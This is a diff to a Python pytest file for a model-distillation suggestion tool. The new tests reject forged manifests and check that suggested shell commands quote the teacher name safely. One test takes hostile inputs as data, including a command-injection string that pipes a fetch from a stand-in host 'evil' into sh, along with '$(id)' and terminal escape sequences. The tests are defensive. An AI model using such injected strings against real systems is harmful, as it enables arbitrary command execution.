@@ -2,6 +2,7 @@
 
 import json
 import math
+import shlex
 import subprocess
 import sys
 from collections.abc import Iterable, Sequence
@@ -199,7 +200,7 @@ def test_a_teacher_that_was_asked_little_is_told(tmp_path: Path) -> None:
     add(path, factory.run_records([("q4", "Dresden", 250.0)], bundle(24, "fp32")))
     found = suggest(path, "raspberry-pi-5", "f1>=10,p90_ms<=35", None)
     assert found.teacher == "example/model-24"
-    assert any("rests on 1 questions, where others were asked up to 4" in r for r in found.remarks)
+    assert any("rests on 1 question, where others were asked up to 4" in r for r in found.remarks)
 
 
 def test_too_few_measurements_are_said_to_be_too_few(tmp_path: Path) -> None:
@@ -246,3 +247,113 @@ def test_the_command_prints_a_table_and_commands(tmp_path: Path) -> None:
     assert json.loads(told.stdout)["points"] == 5
     refused = subprocess.run([*asked[:-1], "f2>=1"], capture_output=True, text=True)
     assert refused.returncode == 1 and refused.stderr.count("\n") == 1
+
+
+def nonsense(**changes: object) -> Manifest:
+    """A model of 24 layers that a forger's manifest describes, with everything else in order."""
+    return msgspec.structs.replace(bundle(24, "fp32"), **changes)
+
+
+@pytest.mark.parametrize(
+    ("manifest", "answers"),
+    [
+        (bundle(24, "fp32"), {"infer_ns": 0, "tokenize_ns": 0, "decode_ns": 0}),
+        (bundle(24, "fp32"), {"windows": 0}),
+        (bundle(24, "fp32"), {"tokens": 0}),
+        (nonsense(architecture=shape(0)), {}),
+        (nonsense(architecture=shape(10**15)), {}),
+        (nonsense(architecture=shape(24, width=0)), {}),
+        (nonsense(parameters=0), {}),
+    ],
+)
+def test_a_model_with_nothing_to_compute_with_is_left_out(
+    tmp_path: Path, manifest: Manifest, answers: dict[str, int]
+) -> None:
+    path = database(tmp_path)
+    before = suggest(path, "raspberry-pi-5", "f1>=10,p90_ms<=35", "model-12")
+    records = factory.run_records([(f"q{n}", "Dresden", 250.0) for n in range(1, 5)], manifest)
+    changed = [msgspec.structs.replace(r, **answers) if isinstance(r, Answer) else r for r in records]
+    add(path, changed)
+    found = suggest(path, "raspberry-pi-5", "f1>=10,p90_ms<=35", "model-12")
+    assert (found.points, found.candidates) == (5, before.candidates)
+    assert [remark for remark in found.remarks if remark not in before.remarks] == [
+        "left out, since a size, a length or a time of theirs is 0 or beyond any model: model-24 fp32"
+    ]
+
+
+def test_nothing_but_nonsense_is_one_sentence(tmp_path: Path) -> None:
+    path = database(tmp_path, ((12, "fp32", 122.0), (12, "int8", 58.0)))
+    add(path, factory.run_records([("q1", "Dresden", 250.0)], nonsense(parameters=0)))
+    with pytest.raises(
+        BadInput, match=r"from two shapes or more, and 1 was .* \(left out, .*: model-24 fp32\)"
+    ):
+        suggest(path, "raspberry-pi-5", "p90_ms<=35", None)
+
+
+def test_a_run_that_no_bundle_made_is_left_out(tmp_path: Path) -> None:
+    path = database(tmp_path)
+    before = suggest(path, "raspberry-pi-5", "p90_ms<=35", None)
+    add(path, factory.run_records([("q1", "Dresden", 9.0)], bundle(24, "fp32")))
+    with Store.open(path) as store, store.writing() as conn:
+        conn.execute("UPDATE runs SET bundle = json_remove(bundle, '$.files') WHERE model = 'model-24'")
+    found = suggest(path, "raspberry-pi-5", "p90_ms<=35", None)
+    assert found.candidates == before.candidates
+    assert "1 run is left out, whose manifest cannot be read: collector report says why" in found.remarks
+
+
+def test_a_teacher_of_no_shape_is_none(tmp_path: Path) -> None:
+    path = database(tmp_path)
+    add(path, factory.run_records([("q4", "Dresden", 250.0)], nonsense(architecture=shape(0))))
+    assert suggest(path, "raspberry-pi-5", "f1>=10,p90_ms<=35", None).teacher == "example/model-12"
+    with pytest.raises(BadInput, match=r"teacher 'model-24' is none of the models .* measure it first"):
+        suggest(path, "raspberry-pi-5", "f1>=10,p90_ms<=35", "model-24")
+
+
+def test_a_teacher_that_nothing_is_smaller_than_is_one_sentence(tmp_path: Path) -> None:
+    path = database(tmp_path)
+    small = msgspec.structs.replace(shape(1), vocab_size=119_547)
+    add(path, factory.run_records([("q1", "Dresden", 9.0)], nonsense(architecture=small)))
+    with pytest.raises(
+        BadInput, match="no student is smaller than the teacher 'model-24', which has 1 layer,"
+    ):
+        suggest(path, "raspberry-pi-5", "p90_ms<=35", "model-24")
+
+
+@pytest.mark.parametrize(
+    "source", ["x;curl${IFS}evil|sh", "it's", "a b", "`id`", "$(id)", "~root", "--to=x", ""]
+)
+def test_a_command_means_the_teacher_and_nothing_else(tmp_path: Path, source: str) -> None:
+    path = database(tmp_path)
+    hostile = nonsense(weights=Weights(origin="hub", source=source))
+    add(path, factory.run_records([("q4", "Dresden", 250.0)], hostile))
+    found = suggest(path, "raspberry-pi-5", "p90_ms<=5000", None)
+    assert found.teacher == source
+    command = shlex.split(found.commands[0], comments=True)
+    assert command[:3] == ["export-models", "distill", "--teacher"] and command[3] == source
+    echo = found.commands[0].replace("export-models distill --teacher", "printf %s", 1)
+    assert subprocess.check_output(["sh", "-c", echo.split(" --student")[0]], text=True) == source
+
+
+def test_a_command_brings_no_escape_to_a_terminal(tmp_path: Path) -> None:
+    path = database(tmp_path)
+    hostile = nonsense(weights=Weights(origin="hub", source="a\x1b[2Jb\nrm\u202e"))
+    add(path, factory.run_records([("q4", "Dresden", 250.0)], hostile))
+    found = suggest(path, "raspberry-pi-5", "p90_ms<=5000", None)
+    assert "--teacher 'a?[2Jb?rm?' --student" in found.commands[0]
+
+
+def test_slow_enough_for_sure_is_by_the_lower_end(tmp_path: Path) -> None:
+    found = suggest(database(tmp_path), "raspberry-pi-5", "p90_ms<=5000,p90_ms>=33", None)
+    seen = set()
+    for c in found.candidates:
+        predicted, low, high = c.latencies_ms["p90_ms"]
+        assert low is not None and high is not None
+        seen.add(c.verdict)
+        assert c.verdict == ("should meet" if low >= 33 else "may meet" if predicted >= 33 else "too fast")
+    assert seen == {"should meet", "may meet", "too fast"}
+
+
+def test_a_prediction_beyond_all_numbers_is_no_error() -> None:
+    points = [Point(1.0, "fp32", 1e-6), Point(1.001, "fp32", 9e12), Point(1.002, "fp32", 1e-6)]
+    found = fit(points).predict(1e9, "fp32")
+    assert found.high is not None and math.isfinite(found.high)
